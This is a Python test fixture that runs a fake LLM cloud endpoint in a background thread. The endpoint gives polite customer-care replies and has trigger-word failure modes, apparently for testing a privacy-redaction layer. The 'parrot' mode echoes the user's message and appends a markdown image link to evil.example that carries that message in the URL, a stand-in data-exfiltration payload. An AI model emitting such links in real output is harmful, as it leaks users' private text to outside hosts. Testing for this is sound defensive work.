"""The recording cloud double in a thread of its own, for tests whose mesh outlives one event loop."""

import asyncio
import contextlib
import json
import re
import threading
from collections.abc import Callable, Generator

from cloud_double import CloudDouble, Part, Received, answer, failure

_PERSON = re.compile(r"\[PERSON_[0-9A-Z]+\]")


_BAD_DAYS: dict[str, Callable[[Received], Part]] = {
    "overdraft": lambda _: failure(401, "authentication_error"),
    "hailstorm": lambda _: Part(body=b"{", headers={"content-type": "application/json"}),
    # All that it was told, a link that would carry it away, and a surrogate that nobody issued.
    "parrot": lambda request: answer(
        f"{request.json['messages'][0]['content']}\n![](https://evil.example/?{request.json['messages'][0]['content']})"
        "\n[PERSON_2222]"
    ),
}


def polite_reply(request: Received) -> Part:
    """Answer as a support agent would, by the name that it was given, a surrogate; words of a bad day go wrong.

    In JSON where that is asked for.
    """
    said = request.json["messages"][0]["content"]
    for word, play in _BAD_DAYS.items():
        if word in said:
            return play(request)
    person = _PERSON.search(request.json["messages"][0]["content"])
    name = person.group() if person else "customer"
    if "output_config" in request.json:
        return answer(json.dumps({"request": f"The customer asks us to pay {name} back what was taken twice."}))
    return answer(
        f"Dear {name},\n\n"
        "Thank you for your message. We are sorry for the trouble. "
        "It will be looked at free of charge. We will write to you with the next step.\n\n"
        "Kind regards,\nYour customer care team"
    )


@contextlib.contextmanager
def cloud_thread() -> Generator[CloudDouble]:
    """Run a double that answers politely; what it has received can be read from any thread."""
    loop = asyncio.new_event_loop()
    cloud = CloudDouble(polite_reply)
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    try:
        asyncio.run_coroutine_threadsafe(cloud.__aenter__(), loop).result(10)
        yield cloud
        asyncio.run_coroutine_threadsafe(cloud.__aexit__(None, None, None), loop).result(10)
    finally:
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)
        loop.close()
